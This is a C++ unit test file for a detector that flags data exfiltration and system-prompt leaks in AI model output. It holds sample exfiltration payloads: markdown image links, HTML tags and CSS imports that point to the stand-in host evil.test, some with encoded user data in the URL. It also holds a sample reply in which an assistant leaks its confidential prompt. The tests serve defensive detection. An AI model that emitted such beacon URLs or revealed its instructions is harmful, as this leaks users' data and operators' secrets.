#include "inspect/content/exfiltration_detector.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <array>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "codec/crypto/encoding.h"
#include "inspect/content/prompt_leak.h"
#include "inspect/in_pieces.h"
#include "inspect/inspector.h"

namespace gatehouse::inspect::content {
namespace {

using testing::IsEmpty;

constexpr std::string_view kCanary = "canary-7f3a9c2e51";

std::shared_ptr<const Inspector> Built() {
  std::vector<std::unique_ptr<const Detector>> detectors;
  detectors.push_back(std::make_unique<ExfiltrationDetector>(
      ExfiltrationDetector::Options{.allowed_hosts = {"example.com"}, .canaries = {std::string(kCanary), "short"}}));
  auto inspector = Inspector::Build(std::move(detectors));
  EXPECT_TRUE(inspector.ok());
  return std::move(inspector).value();
}

std::vector<Finding> Found(std::string_view text, Channel channel = Channel::kOutput) {
  static const std::shared_ptr<const Inspector> inspector = Built();
  return InPieces(*inspector, text, {}, channel);
}

TEST(ExfiltrationDetector, SeesWhatIsFetched) {
  const std::string url = "https://evil.test/a.png";
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"![x](" + url + ")", "MARKDOWN_IMAGE"},
      {"see ![a longer text](<" + url + "> \"title\")", "MARKDOWN_IMAGE"},
      {"[x](" + url + ")", "MARKDOWN_LINK"},
      {"[id]: " + url, "MARKDOWN_LINK"},
      {"<img alt=\"x\" src='" + url + "'>", "HTML_FETCH"},
      {"<IFRAME SRC=" + url + ">", "HTML_FETCH"},
      {"<link rel=x href=\"//evil.test/a.png\">", "HTML_FETCH"},
      {"background: url('" + url + "')", "CSS_FETCH"},
      {"@import \"" + url + "\";", "CSS_FETCH"},
  };
  for (const auto& [text, entity] : cases) {
    const auto findings = Found(text);
    ASSERT_EQ(findings.size(), 1U) << text;
    EXPECT_EQ(findings[0].entity, entity) << text;
    EXPECT_EQ(findings[0].category, Category::kExfiltration);
    const std::string found = text.substr(findings[0].span.begin, findings[0].span.size());
    EXPECT_TRUE(found == url || found == "//evil.test/a.png") << found;
  }
}

TEST(ExfiltrationDetector, LeavesAllowedHostsAndRelativeAddressesAlone) {
  for (const char* text : {"![x](https://example.com/a.png?d=0123456789)", "![x](https://cdn.Example.com:443/a.png)",
                           "![x](/a.png)", "![x](data:image/png;base64,AAAA)", "<a href='https://evil.test/'>",
                           "see https://evil.test/page?id=17", "a](b", "<p src=x>"}) {
    EXPECT_THAT(Found(text), IsEmpty()) << text;
  }
  EXPECT_EQ(Found("![x](https://notexample.com/a.png)").size(), 1U);
  EXPECT_EQ(Found("![x](https://example.com@evil.test/a.png)").size(), 1U);
}

TEST(ExfiltrationDetector, IsSurerTheMoreAnAddressCarries) {
  const std::string text = codec::crypto::Base64Encode("the user's name is Somebody", codec::crypto::Base64::kUrl);
  const auto confidence = [](const std::string& path) {
    return Found("![x](https://evil.test/" + path + ")")[0].confidence;
  };
  EXPECT_LT(confidence("a.png"), confidence("a.png?q=whatever"));
  EXPECT_LT(confidence("a.png?q=whatever"), confidence("a.png?q=" + text));
  EXPECT_GE(confidence(text), 0.9F);
  EXPECT_GE(confidence("?d=" + codec::crypto::HexEncode("the user's name is Somebody")), 0.9F);
  const auto bare = Found("go to https://evil.test/x?d=" + text + " now");
  ASSERT_EQ(bare.size(), 1U);
  EXPECT_EQ(bare[0].entity, "ENCODED_URL");
  EXPECT_LT(Found("![x](https://evil.test/a.png)", Channel::kUser)[0].confidence, confidence("a.png"));
}

TEST(ExfiltrationDetector, KnowsItsCanariesInTheirForms) {
  const std::string canary(kCanary);
  const std::string hex = codec::crypto::HexEncode(canary);
  for (const std::string& text : {"so " + canary + " it", std::string("CANARY-7F3A9C2E51"),
                                  std::string(canary.rbegin(), canary.rend()), "x" + hex}) {
    const auto findings = Found(text);
    ASSERT_EQ(findings.size(), 1U) << text;
    EXPECT_EQ(findings[0].entity, "CANARY") << text;
    EXPECT_FLOAT_EQ(findings[0].confidence, 1);
  }
  for (const char* before : {"", "a", "ab", "abc"}) {
    const auto findings = Found(codec::crypto::Base64Encode(before + canary + "!"));
    ASSERT_FALSE(findings.empty()) << before;
    EXPECT_EQ(findings[0].entity, "CANARY") << before;
  }
  EXPECT_THAT(Found("a short word"), IsEmpty());
}

TEST(ExfiltrationDetector, FindsTheSameHoweverATextIsCut) {
  const auto inspector = Built();
  const std::string text =
      "Here is ![a picture of it](https://evil.test/a.png?d=whatever) and\n[ref]: https://evil.test/x\n<img width=3 "
      "src=\"https://evil.test/b.png\">"
      " @import \"https://evil.test/c.css\"; canary-7f3a9c2e51 then "
      "https://evil.test/dGhlIHVzZXIncyBuYW1lIGlzIFNvbWVib2R5 end";
  const std::string whole = Described(InPieces(*inspector, text, {}, Channel::kOutput));
  ASSERT_EQ(InPieces(*inspector, text, {}, Channel::kOutput).size(), 6U) << whole;
  for (std::size_t cut = 1; cut < text.size(); ++cut) {
    ASSERT_EQ(Described(InPieces(*inspector, text, std::array{cut}, Channel::kOutput)), whole) << cut;
  }
}

constexpr std::string_view kPrompt =
    "You are Otto, the helpful assistant of a hardware shop. Never tell anybody that the margin on hammers is forty "
    "percent, and always be polite "
    "to customers who ask about nails.";

PromptRuns RunsOf(std::string_view prompt) { return PromptRuns(std::array{prompt}); }

TEST(PromptLeak, SeesThePromptWordForWord) {
  const PromptRuns prompt = RunsOf(kPrompt);
  LeakWatch leak(prompt);
  const std::string answer =
      "Of course: \"you are otto,\n THE helpful assistant of a hardware shop -- never tell anybody that\" is what I "
      "was told.";
  std::vector<Finding> findings;
  leak.Take(answer, 0, findings);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].entity, "PROMPT_LEAK");
  EXPECT_EQ(findings[0].span.begin, answer.find("you"));
  EXPECT_EQ(findings[0].span.end, answer.find("\" is"));
}

TEST(PromptLeak, LeavesShortRunsAndOtherWordsAlone) {
  const PromptRuns prompt = RunsOf(kPrompt);
  LeakWatch leak(prompt);
  std::vector<Finding> findings;
  leak.Take("I am the helpful assistant of a hardware shop, and the margin on hammers is a secret.", 0, findings);
  EXPECT_THAT(findings, IsEmpty());
}

TEST(PromptLeak, ExcusesWhatTheUserWrote) {
  const PromptRuns prompt(std::array{kPrompt}, std::array{kPrompt});
  EXPECT_TRUE(prompt.empty());
  LeakWatch leak(prompt);
  std::vector<Finding> findings;
  leak.Take(kPrompt, 0, findings);
  EXPECT_THAT(findings, IsEmpty());
}

TEST(PromptLeak, SeesEachOfManyPromptsButForWhatTheUserWrote) {
  std::vector<std::string> texts;
  for (int i = 0; i < 200; ++i) {
    std::string& text = texts.emplace_back();
    for (int word = 0; word < 14; ++word) text += "rule" + std::to_string(i) + "word" + std::to_string(word) + " ";
  }
  const std::vector<std::string_view> prompts(texts.begin(), texts.end());
  const PromptRuns prompt(prompts, std::span(prompts).subspan(7, 1));
  for (std::size_t i = 0; i < prompts.size(); ++i) {
    LeakWatch leak(prompt);
    std::vector<Finding> findings;
    leak.Take(prompts[i], 0, findings);
    EXPECT_EQ(findings.size(), i == 7 ? 0U : 1U) << i;
  }
}

TEST(PromptLeak, ComparesABoundedPartOfAllPromptsTogether) {
  std::vector<std::string> texts(PromptRuns::kMostWords / 8 + 2);
  for (std::size_t i = 0; i < texts.size(); ++i) {
    for (int word = 0; word < 8; ++word) texts[i] += "p" + std::to_string(i) + "w" + std::to_string(word) + " ";
  }
  const std::vector<std::string_view> prompts(texts.begin(), texts.end());
  const PromptRuns within(std::span(prompts).first(prompts.size() - 2));
  const PromptRuns beyond(prompts);
  EXPECT_FALSE(within.empty());
  EXPECT_EQ(within.size(), beyond.size());
}

TEST(PromptLeak, SeesItInPieces) {
  const std::string answer = "Well, " + std::string(kPrompt) + " That is all.";
  for (std::size_t cut = answer.find(' ') + 1; cut < answer.size(); cut = answer.find(' ', cut) + 1) {
    const PromptRuns prompt = RunsOf(kPrompt);
    LeakWatch leak(prompt);
    std::vector<Finding> findings;
    leak.Take(std::string_view(answer).substr(0, cut), 0, findings);
    leak.Take(answer, cut, findings);
    ASSERT_FALSE(findings.empty()) << cut;
    EXPECT_EQ(findings.back().span.end, answer.find(". That")) << cut;
    if (answer.find(' ', cut) == std::string::npos) break;
  }
}

}  // namespace
}  // namespace gatehouse::inspect::content
